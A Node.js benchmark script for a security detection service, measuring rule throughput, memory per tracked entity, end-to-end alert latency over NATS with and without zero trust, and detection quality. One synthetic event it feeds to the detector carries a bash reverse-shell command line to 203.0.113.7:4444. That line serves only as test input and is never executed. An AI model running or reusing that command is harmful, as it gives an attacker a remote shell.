#!/usr/bin/env node
// The intelligence figures issue 5 asks for, in one run:
//  1. events/s through libs/detect with the full shipped rule pack and all five streaming detectors
//     on one core (rules only, detectors only, both), beside Falco's and Tracee's published figures;
//     and the whole shipped pack beside the SigmaHQ corpus, rules only (pack-throughput.mjs);
//  2. heap per 10,000 tracked entities for the detector set;
//  3. end-to-end p50/p99 from a sentinel's publish to the alert on ALERTS at 20,000 events/s, through
//     a real nats-server and the built intelligence service (signature verification included);
//  4. precision, recall and time to detect per attack kind on the labelled scenario generator.
// Over 400 lines on purpose: one driver whose measures share the rule pack, the events and the stack it starts.
//
//   npx node bench/intelligence/bench.mjs [--events 300000] [--rounds 5] [--rate 20000]
//     [--seconds 20] [--no-e2e] [--no-quality] [--no-build] [--json]
//     [--zero-trust compare|plain|secure] [--e2e-runs 1]
//
// End to end, `--zero-trust compare` (the default) runs part 3 on a plaintext bus and with zero
// trust on (TLS 1.3 + NATS auth with trust answering the authorization callout; the service,
// the sentinel stand-in and the alert reader each enrolled with trust), and prints the cost.
import { execFileSync, spawn } from 'node:child_process';
import { cpus, loadavg } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createRequire } from 'node:module';
import { performance } from 'node:perf_hooks';
import { parseArgs } from 'node:util';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import {
  printQuality,
  runQualityBench,
  runRichQualityBench,
  shippedPackTexts,
} from './quality.mjs';
import { packThroughput, printPackThroughput } from './pack-throughput.mjs';
import { cpuSecondsOf, startZeroTrust, zeroTrustCost, zeroTrustModes } from '../zero-trust.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const require = createRequire(join(root, 'package.json'));

const { values: args } = parseArgs({
  options: {
    events: { type: 'string', default: '300000' },
    rounds: { type: 'string', default: '5' },
    rate: { type: 'string', default: '20000' },
    seconds: { type: 'string', default: '20' },
    'no-e2e': { type: 'boolean', default: false },
    /** Write a CPU profile of the service (end-to-end part) into this directory. */
    'profile-service': { type: 'string' },
    'no-quality': { type: 'boolean', default: false },
    'no-build': { type: 'boolean', default: false },
    json: { type: 'boolean', default: false },
    // End to end on a plaintext bus, with zero trust on, or both in turn.
    'zero-trust': { type: 'string', default: 'compare' },
    // End-to-end runs per mode; with both modes the order alternates from run to run.
    'e2e-runs': { type: 'string', default: '1' },
  },
});
const MODES = zeroTrustModes(args['zero-trust']);
const EVENTS = Number(args.events);
const ROUNDS = Number(args.rounds);
const TARGET_EPS = 300_000;
const TARGET_P99_MS = 100;

if (!args['no-build']) {
  execFileSync('npx', ['tsc', '-b', 'apps/intelligence', 'apps/trust', 'libs/testkit'], {
    cwd: root,
    stdio: 'inherit',
  });
}
setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc');
const detect = require(join(root, 'libs', 'detect', 'dist', 'index.js'));

const results = { machine: machine() };

function machine() {
  return {
    cpu: cpus()[0]?.model ?? 'unknown',
    cores: cpus().length,
    node: process.version,
    load: loadavg()
      .map((l) => l.toFixed(2))
      .join(' '),
    time: new Date().toISOString(),
  };
}

function median(values) {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.floor(sorted.length / 2)];
}

// 1. Throughput on one core: scenario events (70% flows, 20% DNS, 10% process launches, attacks).
function throughput() {
  const scenario = detect.generateScenario({
    seed: 2,
    durationSec: Math.max(600, Math.ceil(EVENTS / 100)),
    backgroundPerSecond: 100,
    attacksPerKind: 5,
  });
  const events = [];
  for (const event of scenario.events()) {
    events.push(event);
    if (events.length === EVENTS) break;
  }
  const pack = detect.loadRulePack(shippedPackTexts());
  if (pack.rejected.length > 0) throw new Error(`shipped pack rejected rules: ${pack.rejected}`);
  const matcher = new detect.RuleSetMatcher(pack.rules);
  // Wall time counts the time this process waits for a core on a shared machine; CPU time (this
  // process's user + system, GC threads included) is what one core spends: both are reported.
  const run = (withRules, withDetectors) => {
    const wall = [];
    const cpu = [];
    let outputs = 0;
    for (let round = 0; round <= ROUNDS; round++) {
      const detectors = new detect.DetectorSet();
      let count = 0;
      const onMatch = () => count++;
      const cpuStart = process.cpuUsage();
      const start = performance.now();
      for (let i = 0; i < events.length; i++) {
        const event = events[i];
        if (withRules) matcher.match(event, onMatch);
        if (withDetectors) count += detectors.observe(event).length;
      }
      const seconds = (performance.now() - start) / 1000;
      const used = process.cpuUsage(cpuStart);
      const cpuSeconds = (used.user + used.system) / 1e6;
      if (round > 0) {
        // round 0 warms up
        wall.push(events.length / seconds);
        cpu.push(events.length / cpuSeconds);
      }
      outputs = count;
    }
    return {
      eventsPerSecond: Math.round(median(wall)),
      min: Math.round(Math.min(...wall)),
      max: Math.round(Math.max(...wall)),
      eventsPerCpuSecond: Math.round(median(cpu)),
      outputs,
    };
  };
  return {
    events: events.length,
    rules: pack.rules.length,
    rulesOnly: run(true, false),
    detectorsOnly: run(false, true),
    full: run(true, true),
    // issue 21: the whole shipped pack beside the SigmaHQ corpus, rules only, on these events
    pack: packThroughput(detect, events, ROUNDS),
  };
}

// 2. Heap per 10,000 tracked entities: each pod connects out (beacon pairs), is refused (scan
// state), and resolves names under its own domain (DNS tunnel pairs); the new-edge sketches are fixed.
function memory() {
  const ENTITIES = 10_000;
  gc();
  const before = process.memoryUsage().heapUsed;
  const detectors = new detect.DetectorSet();
  const t0 = 1_700_000_000_000_000_000n;
  let n = 0;
  for (let i = 0; i < ENTITIES; i++) {
    const src = {
      ip: `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`,
      workload: `ns/pod-${i}@sa`,
    };
    for (let k = 0; k < 4; k++) {
      const timeNs = t0 + BigInt(n++) * 1_000_000n;
      detectors.observe(
        detect.flowEvent({
          id: `m${n}`,
          timeNs,
          src,
          dst: { ip: `198.51.100.${k}`, port: 443 },
          bytesOut: 300,
        }),
      );
      detectors.observe(
        detect.flowEvent({
          id: `r${n}`,
          timeNs,
          src,
          dst: { ip: `10.200.0.${k}`, port: 22 },
          activity: 5,
        }),
      );
      detectors.observe(
        detect.dnsEvent({ id: `d${n}`, timeNs, src, hostname: `x${k}.svc${i}.example.com` }),
      );
    }
  }
  gc();
  const bytes = process.memoryUsage().heapUsed - before;
  return {
    entities: ENTITIES,
    heapBytes: bytes,
    bytesPerEntity: Math.round(bytes / ENTITIES),
    stateSizes: detectors.stateSizes(),
  };
}

/** Who the end-to-end part runs as on the zero-trust bus. */
const SENTINEL = 'sentinel/bench-node';
const ALERT_READER = 'operator/bench';

// 3. End to end through NATS and the built service; `mode` secure: with zero trust on.
async function endToEnd(mode) {
  const { startNatsServer } = require('@omega/testkit');
  const { DeliverPolicy } = require('@nats-io/jetstream');
  const { connectBus, provision, publishBytes, subjects } = require('@omega/bus');
  const { generateHybridSecretKey, HybridSigner, loadMlDsaBackend } = require('@omega/crypto');
  const { Alert, EventBatch, Identity } = require('@omega/proto');
  const {
    encodeIdentityRecord,
    identityRecordKey,
    keyIndexKey,
    signEventBatch,
  } = require('@omega/trust-client');
  const { createLogger } = require('@omega/runtime');
  const rate = Number(args.rate);
  const seconds = Number(args.seconds);
  const BATCH = 200;
  const batchesPerSecond = rate / BATCH;

  const logger = createLogger({ service: 'bench', level: 'silent' });
  let nats;
  let bus;
  let reader;
  let signer;
  let sender;
  let serviceEnv = {};
  let zeroTrust;
  if (mode === 'secure') {
    // Trust issues every identity: the sentinel's signing key reaches omega_identities through its
    // enrollment, as on a real node; the alert reader is an operator (it may read ALERTS).
    zeroTrust = await startZeroTrust({
      identities: [SENTINEL, 'service/intelligence', ALERT_READER],
    });
    nats = zeroTrust.nats;
    const credentials = await zeroTrust.enroll(SENTINEL);
    bus = await zeroTrust.connectBus(SENTINEL, credentials, { logger });
    await provision(bus, { streams: ['TELEMETRY', 'DLQ'] });
    reader = await zeroTrust.connectBus(ALERT_READER, await zeroTrust.enroll(ALERT_READER), {
      logger,
    });
    signer = credentials.signer;
    sender = credentials.subject;
    serviceEnv = zeroTrust.serviceEnv();
  } else {
    nats = await startNatsServer();
    bus = await connectBus({ servers: nats.url, name: 'bench-sentinel', logger });
    reader = bus;
    await provision(bus, {
      streams: ['TELEMETRY', 'ALERTS', 'DECEPTION', 'DLQ'],
      kv: ['omega_identities', 'omega_policy'],
    });
    const mlDsa = await loadMlDsaBackend('liboqs');
    signer = new HybridSigner(await generateHybridSecretKey(mlDsa), mlDsa);
    sender = 'omega://local/sentinel/bench-node';
    const nowNs = BigInt(Date.now()) * 1_000_000n;
    const identity = Identity.fromPartial({
      id: sender,
      kind: 2,
      status: 1,
      keys: [
        {
          ...signer.publicKey,
          notBeforeTimeNs: nowNs - 3_600_000_000_000n,
          notAfterTimeNs: nowNs + 3_600_000_000_000n,
        },
      ],
      issueTimeNs: nowNs - 3_600_000_000_000n,
      expireTimeNs: nowNs + 3_600_000_000_000n,
    });
    const kv = await bus.kv('omega_identities');
    await kv.put(
      identityRecordKey(sender),
      encodeIdentityRecord({ identity, currentSerial: '01', revokedSerials: [] }),
    );
    await kv.put(keyIndexKey(signer.keyId), sender);
  }

  const profile = args['profile-service']
    ? ['--cpu-prof', `--cpu-prof-dir=${args['profile-service']}`]
    : [];
  const service = spawn(
    process.execPath,
    [...profile, join(root, 'apps', 'intelligence', 'dist', 'main.js')],
    {
      env: {
        PATH: process.env.PATH,
        HOME: process.env.HOME,
        OMEGA_NATS_SERVERS: nats.url,
        OMEGA_GRPC_HOST: '127.0.0.1',
        OMEGA_GRPC_PORT: '0',
        OMEGA_HTTP_HOST: '127.0.0.1',
        OMEGA_HTTP_PORT: '0',
        OMEGA_LOG_LEVEL: 'warn',
        OMEGA_INTELLIGENCE_AUDIT_ALERTS: 'false',
        ...serviceEnv,
      },
      stdio: ['ignore', 'inherit', 'inherit'],
    },
  );
  // If this bench dies, its service must not outlive it.
  process.once('exit', () => service.kill('SIGKILL'));
  // Ready once its durable consumer exists.
  for (const deadline = Date.now() + 30_000; ;) {
    const info = await reader.jsm.consumers.info('TELEMETRY', 'intelligence').catch(() => null);
    if (info) break;
    if (Date.now() > deadline) throw new Error('intelligence did not start');
    await new Promise((r) => setTimeout(r, 100));
  }

  // Background events of a scenario; one reverse shell per batch, in a pod of its own.
  const scenario = detect.generateScenario({
    seed: 3,
    // Enough background for the whole run (200 events a batch, all but one from here).
    durationSec: Math.ceil((rate * seconds) / 100) + 600,
    backgroundPerSecond: 100,
    attacksPerKind: 0,
    benignPollers: 0,
  });
  const background = scenario.events();
  const publishedAt = new Map();
  const latencies = [];
  const steady = [];
  const WARMUP_BATCHES = Math.round(batchesPerSecond * 2);
  // Alerts are read as a subscriber on a deployed bus reads them: an ordered consumer on ALERTS
  // (core subscriptions to omega.alerts.> are refused to every identity on the zero-trust bus).
  const alertConsumer = await reader.js.consumers.get('ALERTS', {
    filter_subjects: ['omega.alerts.>'],
    deliver_policy: DeliverPolicy.New,
  });
  const sub = await alertConsumer.consume();
  const receiving = (async () => {
    for await (const msg of sub) {
      const alert = Alert.decode(msg.data);
      const sequence = alert.evidence[0]?.batch?.sequence;
      const at = sequence === undefined ? undefined : publishedAt.get(sequence);
      if (at !== undefined && alert.ruleId === 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02') {
        const latency = performance.now() - at;
        latencies.push(latency);
        // The first WARMUP_BATCHES cover the service's JIT warm-up: reported apart as well.
        if (sequence > BigInt(WARMUP_BATCHES)) steady.push(latency);
        publishedAt.delete(sequence);
      }
    }
  })();

  const total = Math.round(batchesPerSecond * seconds);
  const serviceCpu0 = cpuSecondsOf(service.pid);
  const natsCpu0 = cpuSecondsOf(nats.pid);
  const start = performance.now();
  let signMs = 0;
  let publishFailures = 0;
  for (let b = 1; b <= total; b++) {
    const due = start + ((b - 1) * 1000) / batchesPerSecond;
    const wait = due - performance.now();
    if (wait > 0) await new Promise((r) => setTimeout(r, wait));
    const events = [];
    for (let i = 0; i < BATCH - 1; i++) events.push(background.next().value);
    const shell = detect.eventFromSigmaFields('process_creation', {
      'omega.namespace': 'bench',
      'omega.pod': `shell-${b}`,
      'omega.node': 'bench-node',
      Image: '/bin/bash',
      CommandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    });
    shell.id = `shell-${b}`;
    shell.timeNs = events[0].timeNs;
    events.push(shell);
    const batch = EventBatch.fromPartial({
      sender: { id: sender, keyId: signer.keyId },
      sessionId: 'bench',
      sequence: BigInt(b),
      createdTimeNs: BigInt(Date.now()) * 1_000_000n,
      events,
    });
    const t = performance.now();
    const bytes = signEventBatch(signer, batch);
    signMs += performance.now() - t;
    publishedAt.set(BigInt(b), performance.now());
    publishBytes(bus, subjects.telemetry('process', 'bench-node'), bytes, {
      msgId: `bench:${b}`,
    }).catch(() => {
      publishFailures++;
      publishedAt.delete(BigInt(b));
    });
  }
  const sentSeconds = (performance.now() - start) / 1000;
  for (const deadline = Date.now() + 30_000; latencies.length < total && Date.now() < deadline;) {
    await new Promise((r) => setTimeout(r, 100));
  }
  const serviceCpuSeconds = cpuSecondsOf(service.pid) - serviceCpu0;
  const natsCpuSeconds = cpuSecondsOf(nats.pid) - natsCpu0;
  await sub.close();
  await receiving;
  service.kill('SIGTERM');
  await new Promise((r) => service.once('exit', r));
  await bus.drain();
  if (reader !== bus) await reader.drain();
  await (zeroTrust ?? nats).stop();
  latencies.sort((a, b) => a - b);
  steady.sort((a, b) => a - b);
  const pct = (p, list = latencies) => list[Math.min(list.length - 1, Math.floor(p * list.length))];
  return {
    mode,
    serviceCpuSeconds: Number(serviceCpuSeconds.toFixed(2)),
    natsCpuSeconds: Number(natsCpuSeconds.toFixed(2)),
    eventsPerServiceCpuSecond: Math.round((total * BATCH) / serviceCpuSeconds),
    offeredEventsPerSecond: rate,
    achievedEventsPerSecond: Math.round((total * BATCH) / sentSeconds),
    batches: total,
    alertsSeen: latencies.length,
    p50Ms: Number(pct(0.5)?.toFixed(1)),
    p99Ms: Number(pct(0.99)?.toFixed(1)),
    steadyP50Ms: Number(pct(0.5, steady)?.toFixed(1)),
    steadyP99Ms: Number(pct(0.99, steady)?.toFixed(1)),
    maxMs: Number(latencies.at(-1)?.toFixed(1)),
    signMsPerBatch: Number((signMs / total).toFixed(2)),
    publishFailures,
  };
}

const fmt = (n) => n.toLocaleString('en');

function printThroughput(t) {
  console.log(
    `\nThroughput on one core: ${fmt(t.events)} scenario events, ${t.rules} shipped Sigma rules, 5 detectors, median of ${ROUNDS} rounds`,
  );
  console.log(
    '| what | events/s (wall) | min–max (wall) | events per CPU-second | outputs per round |',
  );
  console.log('|---|---:|---|---:|---:|');
  for (const [name, r] of [
    ['rules only', t.rulesOnly],
    ['detectors only', t.detectorsOnly],
    ['rules + detectors (full)', t.full],
  ]) {
    console.log(
      `| ${name} | ${fmt(r.eventsPerSecond)} | ${fmt(r.min)}–${fmt(r.max)} | ${fmt(r.eventsPerCpuSecond)} | ${fmt(r.outputs)} |`,
    );
  }
  console.log(`| target (issue 5) | ${fmt(TARGET_EPS)} | | | |`);
  console.log(
    '| Falco, whole sensor at ~38% of a core (published, quoted in issue 5) | ~4,400 | | | |',
  );
  console.log(
    '| Tracee, whole sensor at ~1.5 cores (published, quoted in issue 5) | ~50,000 | | | |',
  );
  printPackThroughput(t.pack);
}

function printMemory(mem) {
  console.log(
    `\nMemory: ${fmt(mem.heapBytes)} bytes of heap for ${fmt(mem.entities)} tracked entities = ${fmt(mem.bytesPerEntity)} bytes per entity; state entries ${JSON.stringify(mem.stateSizes)}`,
  );
}

const MODE_NAMES = { plain: 'plaintext bus', secure: 'zero trust (TLS + NATS auth)' };

function printEndToEnd(e) {
  console.log(
    `\nEnd to end (sentinel publish → alert on ALERTS), ${MODE_NAMES[e.mode]}, nats-server + built intelligence, signed batches of 200, load ${loadavg()[0].toFixed(2)}:`,
  );
  console.log(
    `offered ${fmt(e.offeredEventsPerSecond)} events/s, achieved ${fmt(e.achievedEventsPerSecond)}; ${e.alertsSeen}/${e.batches} alerts seen (${e.publishFailures} publishes not acked by JetStream in time); p50 ${e.p50Ms} ms, p99 ${e.p99Ms} ms, max ${e.maxMs} ms (target p99 < ${TARGET_P99_MS} ms); after the first 2 s: p50 ${e.steadyP50Ms} ms, p99 ${e.steadyP99Ms} ms; signing ${e.signMsPerBatch} ms per batch on the publisher`,
  );
  console.log(
    `CPU while it ran: intelligence ${e.serviceCpuSeconds} s (${fmt(e.eventsPerServiceCpuSecond)} events per CPU-second of the service), nats-server ${e.natsCpuSeconds} s`,
  );
}

/** Zero trust against plaintext over the end-to-end runs: the service's capacity and latency. */
function printZeroTrustCost(runs) {
  const of = (mode) => runs.filter((r) => r.mode === mode);
  const mean = (xs) => xs.reduce((a, b) => a + b, 0) / xs.length;
  const range = (xs, digits = 0) =>
    `${fmt(Number(Math.min(...xs).toFixed(digits)))}–${fmt(Number(Math.max(...xs).toFixed(digits)))}`;
  const plain = of('plain');
  const secure = of('secure');
  const capacity = (rs) => rs.map((r) => r.eventsPerServiceCpuSecond);
  console.log(
    `\nZero trust, end to end (${plain.length} run(s) per mode): intelligence events per CPU-second plaintext ${range(capacity(plain))}, zero trust ${range(capacity(secure))}; zero-trust cost: ${zeroTrustCost(mean(capacity(plain)), mean(capacity(secure)))} (target ≤ 15%)`,
  );
  console.log(
    `  nats-server CPU-seconds plaintext ${range(
      plain.map((r) => r.natsCpuSeconds),
      2,
    )}, zero trust ${range(
      secure.map((r) => r.natsCpuSeconds),
      2,
    )}; steady p50 plaintext ${range(
      plain.map((r) => r.steadyP50Ms),
      1,
    )} ms, zero trust ${range(
      secure.map((r) => r.steadyP50Ms),
      1,
    )} ms; steady p99 plaintext ${range(
      plain.map((r) => r.steadyP99Ms),
      1,
    )} ms, zero trust ${range(
      secure.map((r) => r.steadyP99Ms),
      1,
    )} ms`,
  );
}

// Each part is printed as soon as it is measured (a later failure loses nothing).
const text = !args.json;
const m = results.machine;
if (text)
  console.log(
    `bench/intelligence — ${m.time}, ${m.cores} × ${m.cpu}, Node ${m.node}, load ${m.load}`,
  );
results.throughput = throughput();
if (text) printThroughput(results.throughput);
results.memory = memory();
if (text) printMemory(results.memory);
if (!args['no-e2e']) {
  results.endToEnd = [];
  for (let run = 1; run <= Number(args['e2e-runs']); run++) {
    // Alternate which mode goes first, so drift in machine load does not favour one.
    for (const mode of run % 2 === 1 ? MODES : [...MODES].reverse()) {
      const e = await endToEnd(mode);
      results.endToEnd.push(e);
      if (text) printEndToEnd(e);
    }
  }
  if (text && MODES.length === 2) printZeroTrustCost(results.endToEnd);
}
if (!args['no-quality']) {
  results.quality = runQualityBench({ seed: 1, hours: 8, rate: 10, attacks: 5 });
  if (text) printQuality(results.quality);
  results.qualityRich = runRichQualityBench({ seed: 1, hours: 8, rate: 10, attacks: 5 });
  if (text) printQuality(results.qualityRich);
}
results.machine.loadAfter = loadavg()
  .map((l) => l.toFixed(2))
  .join(' ');
if (text) console.log(`\nload after: ${results.machine.loadAfter}`);
else console.log(JSON.stringify(results, (_, v) => (typeof v === 'bigint' ? String(v) : v), 2));
